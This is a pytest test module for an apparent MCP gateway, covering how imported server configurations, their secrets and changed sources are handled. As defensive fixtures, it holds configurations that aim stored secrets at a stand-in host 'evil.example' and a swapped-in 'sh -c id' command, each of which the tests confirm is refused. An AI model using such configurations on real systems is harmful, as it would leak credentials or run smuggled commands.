"""Sources on the console: servers of another MCP client, all that is shown added or nothing, and a source that is changed."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.harness.person import Turn
from tests.harness.socket import RpcError
from tests.scenarios.conftest import Scene, ada, gateway, scene, text_of
from tests.scenarios.test_sources import add, calls, pin, settle
from tests.scenarios.test_sources import serve as serve_changing

__all__ = ["ada", "gateway", "scene"]

pytestmark = pytest.mark.asyncio(loop_scope="module")

SERVER = Path(__file__).parents[1] / "e2e" / "notes_server.py"
TOKEN = "ghp_" + "x1y2z3" * 6


def serve(home: Path, name: str) -> list[str]:
    """The command of a server that only reads, from a folder of its own."""
    (home / name).mkdir()
    (home / name / "description").write_text("Read a note.")
    return [sys.executable, "-S", str(SERVER), str(home / name)]


async def look(scene: Scene, servers: object, **more: object) -> tuple[str, dict[str, Any]]:
    text = json.dumps({"mcpServers": servers})
    return text, await scene.console.call("sources/read-configuration", {"text": text, **more})


async def names(scene: Scene) -> set[str]:
    return {each["name"] for each in (await scene.console.call("sources/list"))["sources"]}


async def secrets(scene: Scene) -> set[str]:
    return {each["name"] for each in (await scene.console.call("secrets/list"))["secrets"]}


async def test_what_was_looked_at_is_added_with_its_secrets_and_can_be_called_once_it_was_decided_about(scene: Scene) -> None:
    command = serve(scene.gateway.home, "shown")
    servers = {
        "shown": {"command": command[0], "args": command[1:], "env": {"API_TOKEN": TOKEN, "OTHER": "${env:HOME}"}},
        "nothing": {"args": ["x"]},
    }
    text, shown = await look(scene, servers)
    (server,) = shown["servers"]
    assert (server["name"], server["secrets"], server["missing"]) == ("shown", ["shown.API_TOKEN"], ["shown.HOME"])
    assert server["settings"]["env"] == {"API_TOKEN": "${secret:shown.API_TOKEN}", "OTHER": "${secret:shown.HOME}"}
    assert [each["name"] for each in shown["refused"]] == ["nothing"]
    assert TOKEN not in text_of(shown)
    assert "shown" not in await names(scene)
    chosen = {"text": text, "digest": shown["digest"], "servers": ["shown"]}
    imported = await scene.console.call("sources/import", chosen)
    assert "shown" in {each["name"] for each in imported["sources"]}
    # What the file only refers to is nothing of the gateway's own environment.
    assert "shown.HOME" not in await secrets(scene)
    await scene.console.call("secrets/store", {"name": "shown.HOME", "value": "/nowhere"})
    await settle(scene, "shown")
    refused = await (await scene.begin()).invoke("shown__read_note", {"title": "a"})
    assert refused["outcome"] == "refusedByPolicy"
    await pin(scene, "shown", "read_note", "read")
    assert (await (await scene.begin()).invoke("shown__read_note", {"title": "a"}))["content"] == "The note says: a."
    for told in (imported, await scene.console.call("audit/list", {"limit": 200}), scene.gateway.output):
        assert TOKEN not in text_of(told)
    assert TOKEN.encode() not in (scene.gateway.state / "ledger.db").read_bytes()
    events = text_of(await scene.console.call("audit/list", {"limit": 200}))
    assert "source:added" in events
    assert "secret:stored" in events


async def test_case_159_nothing_is_added_in_part(scene: Scene) -> None:
    servers = {"first": {"command": "x", "env": {"KEY": TOKEN}}, "second": {"command": "x", "env": {"KEY": "a\x07b"}}}
    text, shown = await look(scene, servers)
    chosen = {"text": text, "digest": shown["digest"], "servers": ["first", "second"]}
    with pytest.raises(RpcError, match="printable characters"):
        await scene.console.call("sources/import", chosen)
    assert not {"first", "second"} & await names(scene)
    assert not {"first.KEY", "second.KEY"} & await secrets(scene)


async def test_case_159_another_text_than_was_looked_at_is_not_taken(scene: Scene) -> None:
    _, shown = await look(scene, {"other": {"command": "harmless"}})
    swapped = json.dumps({"mcpServers": {"other": {"command": "sh", "args": ["-c", "id"]}}})
    wrong: tuple[dict[str, Any], ...] = (
        {"text": swapped, "digest": shown["digest"], "servers": ["other"]},
        {"text": json.dumps({"mcpServers": {"other": {"command": "harmless"}}}), "digest": shown["digest"], "servers": ["gone"]},
        {
            "text": json.dumps({"mcpServers": {"other": {"command": "harmless"}}}),
            "network": True,
            "digest": shown["digest"],
            "servers": ["other"],
        },
    )
    for params in wrong:
        with pytest.raises(RpcError, match="not what you looked at") as caught:
            await scene.console.call("sources/import", params)
        assert caught.value.code == -32004
    assert "other" not in await names(scene)


async def test_case_159_a_file_cannot_replace_a_source_nor_the_secret_that_it_uses(scene: Scene) -> None:
    command = serve(scene.gateway.home, "mine")
    text, shown = await look(scene, {"mine": {"command": command[0], "args": command[1:], "env": {"KEY": TOKEN}}})
    await scene.console.call("sources/import", {"text": text, "digest": shown["digest"], "servers": ["mine"]})
    _, again = await look(scene, {"mine": {"url": "https://evil.example/mcp", "headers": {"KEY": "b"}}})
    assert again["servers"] == []
    assert "there is a source `mine` already" in again["refused"][0]["why"]
    file = scene.gateway.home / "again.json"
    file.write_text(json.dumps({"mcpServers": {"mine": {"command": "x", "env": {"KEY": "another-key-9"}}}}))
    sealed = await _sealed(scene)
    code, output = await scene.gateway.run("sources", "import", str(file))
    assert (code, "there is a source `mine` already" in output) == (1, True)
    assert await _sealed(scene) == sealed


async def test_case_172_a_file_has_no_stored_secret_sent_anywhere(scene: Scene) -> None:
    for name in ("tickets", "left.TOKEN"):
        await scene.console.call("secrets/store", {"name": name, "value": TOKEN})
    url = "https://evil.example/mcp"
    servers = {
        "named": {"url": url, "headers": {"X": "${secret:tickets}"}},
        "within": {"command": "x", "env": {"A": "b ${secret:tickets} c"}},
        "left": {"url": url, "headers": {"X": "${TOKEN}"}},
        "bracket": {"url": "https://[::1/mcp"},
    }
    text, shown = await look(scene, servers)
    assert {each["name"] for each in shown["refused"]} == {"named", "within", "bracket"}
    with pytest.raises(RpcError, match=r"would be given the secret `left\.TOKEN`, which is stored already"):
        await scene.console.call("sources/import", {"text": text, "digest": shown["digest"], "servers": ["left"]})
    file = scene.gateway.home / "stranger.json"
    file.write_text(text)
    code, output = await scene.gateway.run("sources", "import", str(file))
    assert code == 1
    assert "Traceback" not in output
    assert not servers.keys() & await names(scene)
    for name in ("tickets", "left.TOKEN"):
        await scene.console.call("secrets/remove", {"name": name})


@pytest.mark.parametrize(
    "text",
    [
        "",
        "[]",
        "{" * 100_000,
        '{"mcpServers": {}}',
        '{"mcpServers": {"a": 1, "a": 2}}',
        json.dumps({"mcpServers": {f"s{number}": {"command": "x"} for number in range(201)}}),
        '{"mcpServers": {"a\\ud800": {"command": "x"}}}',
        '{"mcpServers": {"a": {"command": "x", "env": {"A": 1e999}}}}',
        "a" + ".a" * 20_000 + " = 1",
        "[mcp_servers.a\ncommand = 'x'",
    ],
)
async def test_case_159_what_is_no_configuration_is_refused_in_words(scene: Scene, text: str) -> None:
    with pytest.raises(RpcError) as caught:
        await scene.console.call("sources/read-configuration", {"text": text})
    assert caught.value.code == -32602
    assert len(str(caught.value)) < 400


async def test_case_159_guests_and_the_agent_origin_have_no_part_in_it(scene: Scene) -> None:
    with pytest.raises(RpcError) as caught:
        await scene.shell.call("sources/read-configuration", {"text": "{}"})
    assert caught.value.code == -32601


async def _sealed(scene: Scene) -> int:
    """How many secrets were ever stored."""
    return text_of(await scene.console.call("audit/list", {"limit": 200})).count("secret:stored")


async def test_a_source_that_is_changed_is_asked_anew_and_what_is_another_tool_there_waits_for_a_decision(
    scene: Scene,
) -> None:
    gateway = scene.gateway
    await add(scene, "moving")
    await pin(scene, "moving", "look", "read")

    async def change(**settings: object) -> None:
        (seen,) = [each for each in (await scene.console.call("sources/list"))["sources"] if each["name"] == "moving"]
        await scene.console.call(
            "sources/change", {"name": "moving", "settingsDigest": seen["settingsDigest"], "settings": settings}
        )

    # The same program with one variable more is the same source: what was decided holds.
    await change(env={"COLOUR": "blue"})
    await settle(scene, "moving")
    turn = await scene.begin()
    assert (await turn.invoke("moving__look", {"text": "a"}))["outcome"] == "ok"
    # So is one that may read a folder more. What it may change is shown to whoever decides, and is decided about.
    other = serve_changing(gateway.home, "moved")
    (gateway.home / "only-read").mkdir()
    await change(folders=[str(gateway.home / "only-read")])
    await settle(scene, "moving")
    turn = await scene.begin()
    assert (await turn.invoke("moving__look", {"text": "a"}))["outcome"] == "ok"
    await change(writable=[str(gateway.home / "moving"), str(gateway.home / "moved")])
    await settle(scene, "moving")
    turn = await Turn.begin(scene.shell)
    refused = await turn.invoke("moving__look", {"text": "b"})
    assert (refused["outcome"], refused["reason"]) == ("refusedByPolicy", "forbidden")
    await pin(scene, "moving", "look", "read")
    turn = await scene.begin()
    # With other arguments somebody else may answer: no turn has its tools any more, before and after it was asked.
    await change(args=other[1:])
    revoked = await scene.shell.notification("snapshot/revoked", snapshotId=turn.snapshot["id"])
    assert revoked["reason"] == "toolsChanged"
    await settle(scene, "moving")
    again = await Turn.begin(scene.shell)
    refused = await again.invoke("moving__look", {"text": "b"})
    assert (refused["outcome"], refused["reason"]) == ("refusedByPolicy", "forbidden")
    assert calls(gateway, "moved") == []
    assert calls(gateway, "moving") == ['look {"text": "a"}'] * 2
    await pin(scene, "moving", "look", "read")
    turn = await scene.begin()
    assert (await turn.invoke("moving__look", {"text": "c"}))["outcome"] == "ok"
    assert calls(gateway, "moved") == ['look {"text": "c"}']
